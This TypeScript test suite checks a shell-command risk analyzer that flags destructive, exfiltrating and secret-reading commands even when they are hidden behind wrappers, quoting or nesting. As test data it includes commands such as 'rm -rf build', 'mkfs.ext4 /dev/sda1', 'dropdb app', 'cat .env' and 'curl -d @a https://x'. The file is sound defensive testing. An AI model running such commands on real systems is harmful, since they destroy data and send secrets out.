// biome-ignore-all lint/suspicious/noTemplateCurlyInString: expansions of the shell.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { benignCommands } from './corpus/benign.ts';
import { graveCommands, windowsCommands } from './corpus/grave.ts';
import { type AnalyzeCommandOptions, analyzeCommand, createSecretScreen, type ShellName } from './index.ts';

const options: AnalyzeCommandOptions = {
  screen: createSecretScreen({ homeDirectory: '/home/me', workspaceRoot: '/home/me/project' }),
  cwd: '/home/me/project',
  homeDirectory: '/home/me',
  workspaceRoot: '/home/me/project',
};

function analyze(command: string, shell: ShellName = 'bash') {
  return analyzeCommand(command, { ...options, shell });
}

function named(command: string, expected: string, shell: ShellName = 'bash'): string {
  const { verdict, family } = analyze(command, shell);
  return family === expected ? family : verdict;
}

describe('everyday work is benign', () => {
  it.each(Object.entries(benignCommands))('with %s', (_, commands) => {
    expect(commands.filter((command) => analyze(command).verdict !== 'benign')).toEqual([]);
  });
});

describe('what is grave is called so', () => {
  it.each(graveCommands)('%s', (expected, commands) => {
    expect(commands.filter((command) => named(command, expected) !== expected)).toEqual([]);
  });

  it.each(windowsCommands)('in %s: %s', (shell, expected, commands) => {
    expect(commands.filter((command) => named(command, expected, shell) !== expected)).toEqual([]);
  });
});

describe('an analysis', () => {
  it('is typed for the seven families only, with words that can be typed', () => {
    for (const [expected, commands] of graveCommands) {
      for (const command of commands) {
        const { typed, keyWords, verdict, family } = analyze(command);
        const isSeven = verdict === 'destructive' && !['gate_tamper', 'persistence', 'rce'].includes(family ?? '');
        expect([expected, command, typed, keyWords === '']).toEqual([expected, command, isSeven, !isSeven]);
        expect(keyWords).toMatch(/^[^\p{Cc}\p{Cf}\n]{0,80}$/u);
      }
    }
  });

  it('names the programs, behind wrappers and in substitutions', () => {
    const { programs } = analyze('FOO=1 sudo -E env BAR=2 node "$X" > out | tee log && (cd src && make $(date))');
    expect(programs.map(({ program, wrappers, joinedBy, cwd }) => [program, wrappers.join(' '), joinedBy, cwd])).toEqual([
      ['sudo', '', '', '/home/me/project'],
      ['env', 'sudo', 'in', '/home/me/project'],
      ['node', 'sudo env', 'in', '/home/me/project'],
      ['tee', '', '|', '/home/me/project'],
      ['cd', '', '&&', '/home/me/project'],
      ['date', '', 'in', '/home/me/project/src'],
      ['make', '', '&&', '/home/me/project/src'],
    ]);
    expect(programs[2]).toMatchObject({ arguments: [null], environment: [{ name: 'FOO' }, { name: 'BAR', value: '2' }] });
  });

  it('says which part cannot be resolved', () => {
    expect(analyze('ls; $CMD x').unknowns).toEqual([{ text: '$CMD', why: 'Which program it starts is only known when it runs.' }]);
    expect(analyze('echo "x').unknowns).toEqual([{ text: '"x', why: 'It is no valid command: a double quote is not closed.' }]);
  });

  it('points to the part of the text that a finding is about', () => {
    const command = 'ls -la && rm -rf build; echo';
    const [{ start, end } = { start: 0, end: 0 }] = analyze(command).findings;
    expect(command.slice(start, end)).toBe('rm -rf build');
  });

  it('gives key words of the gravest finding, bounded', () => {
    expect(analyze('ls && rm -rf build').keyWords).toBe('rm -rf build');
    expect(analyze(`sudo rm -rf ${'a/'.repeat(100)}`).keyWords.length).toBeLessThanOrEqual(60);
    expect(analyze('X=rm; $X -rf build').keyWords).toBe('rm -rf build');
  });

  it('takes names of what every object has for names', () => {
    const names = Object.getOwnPropertyNames(Object.prototype);
    const commands = names.flatMap((name) => ['', 'git ', 'sudo ', 'docker run ', 'npm '].map((head) => `${head}${name} -x y`));
    expect(commands.filter((command) => analyze(command).isWhole === false)).toEqual([]);
  });

  it.each([
    ['by braces', `echo ${'{a,b,c,d,e,f,g,h}'.repeat(12)}`],
    ['by substitutions', `cat ${'$('.repeat(9_000)}`],
    ['by wrappers', `${'sudo '.repeat(3_000)}ls`],
    ['by shells in shells', Array.from({ length: 30 }).reduce<string>((inner) => `bash -c ${JSON.stringify(inner).slice(0, 4_000)}`, 'ls')],
  ])('too involved %s is unknown, never benign', (_, command) => {
    expect(analyze(command).verdict).not.toBe('benign');
  });
});

const laws = { numRuns: 150 };
const dangerous = fc.constantFrom(
  'rm -rf build',
  'git push --force',
  'terraform destroy',
  'dropdb app',
  'mkfs.ext4 /dev/sda1',
  'shutdown -h now',
);
const harmless = fc.constantFrom('ls -la', 'git status', 'npm test', 'echo hi', 'cat README.md', 'x=1', 'true', 'grep -rn foo src');

describe('laws of the analysis', () => {
  it('it ends for any text, in any shell', () => {
    const pieces = fc.constantFrom(
      'rm',
      ' ',
      '$(',
      ')',
      '`',
      '"',
      "'",
      '\\',
      '|',
      '&&',
      ';',
      '\n',
      '<<E\n',
      '{',
      '}',
      '[[',
      '((',
      '$X',
      'eval',
      '=',
      '*',
      '\u202e',
      '\ud800',
      '\0',
      '<(',
      'do',
      'case',
    );
    const texts = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 80 }),
      fc.array(pieces, { maxLength: 30 }).map((parts) => parts.join('')),
    );
    const shells = fc.constantFrom<ShellName>('bash', 'zsh', 'sh', 'powershell', 'cmd');
    fc.assert(
      fc.property(texts, shells, (text, shell) => {
        const { verdict, findings } = analyze(text, shell);
        expect(verdict === 'benign').toBe(findings.length === 0);
        for (const { start, end } of findings) expect(start >= 0 && start <= end && end <= text.length).toBe(true);
      }),
      { numRuns: 400 },
    );
  });

  it('quotes around a word do not change the verdict', () => {
    const quotes = fc.constantFrom<(word: string) => string>(
      (word) => `'${word}'`,
      (word) => `"${word}"`,
      (word) => `\\${word}`,
      (word) => `${word.slice(0, 1)}''${word.slice(1)}`,
      (word) => `$'${[...word].map((character) => `\\x${character.charCodeAt(0).toString(16)}`).join('')}'`,
    );
    fc.assert(
      fc.property(fc.oneof(dangerous, harmless), fc.array(quotes, { minLength: 8, maxLength: 8 }), (command, spell) => {
        const words = command.split(' ');
        fc.pre(!words.some((word) => word.includes('=')));
        const spelled = words.map((word, index) => (spell[index] as (text: string) => string)(word)).join(' ');
        expect([spelled, analyze(spelled).verdict]).toEqual([spelled, analyze(command).verdict]);
      }),
      laws,
    );
  });

  it('a destructive command stays so in every wrapper, however deep', () => {
    const wrappers = fc.constantFrom(
      ...['sudo', 'nohup', 'nice -n 5', 'timeout 5', 'env A=1', 'command', 'xargs', 'setsid', 'stdbuf -oL', 'time', 'exec', '!', 'A=b'].map(
        (word) => (command: string) =>
          /^[({!]|^(?:if|for|f\(|time|A=)/.test(command) && word !== 'time' && word !== '!' ? command : `${word} ${command}`,
      ),
      (command: string) => `( ${command} )`,
      (command: string) => `{ ${command}; }`,
      (command: string) => `if true; then ${command}; fi`,
      (command: string) => `for i in 1; do ${command}; done`,
      (command: string) => `sh -c ${JSON.stringify(command).replaceAll('$', '\\$').replaceAll('`', '\\`')}`,
      (command: string) => `echo $( ${command})`,
      (command: string) => `f() { ${command}; }; f`,
      (command: string) => `cat <(${command})`,
      (command: string) => `bash <<'EOF'\n${command}\nEOF\n`,
    );
    fc.assert(
      fc.property(dangerous, fc.array(wrappers, { maxLength: 4 }), (command, chain) => {
        const wrapped = chain.reduce<string>((inner: string, wrap) => (inner.includes('\n') ? inner : wrap(inner)), command);
        expect([wrapped, ['destructive', 'exfil'].includes(analyze(wrapped).verdict)]).toEqual([wrapped, true]);
      }),
      laws,
    );
  });

  it('harmless commands around it do not change a verdict, and the gravest of two is that of both', () => {
    const joints = fc.constantFrom(' && ', '; ', ' || ', '\n', ' & ', ' | ');
    fc.assert(
      fc.property(harmless, joints, dangerous, joints, harmless, (before, one, command, other, after) => {
        const joined = before + one + command + other + after;
        expect([joined, analyze(joined).verdict]).toEqual([joined, 'destructive']);
      }),
      laws,
    );
    expect(analyze('rm x; curl -d @a https://x').verdict).toBe('exfil');
    expect(analyze('cat .env; rm x').verdict).toBe('destructive');
    expect(analyze('$X; cat .env').verdict).toBe('secret_read');
  });

  it('text that is only printed, searched for or recorded stays text', () => {
    fc.assert(
      fc.property(dangerous, fc.constantFrom('echo', 'printf %s', 'grep -rn', 'git commit -m', 'test -n', 'rg'), (command, printer) => {
        expect(analyze(`${printer} '${command}'`).verdict).toBe('benign');
      }),
      laws,
    );
  });
});
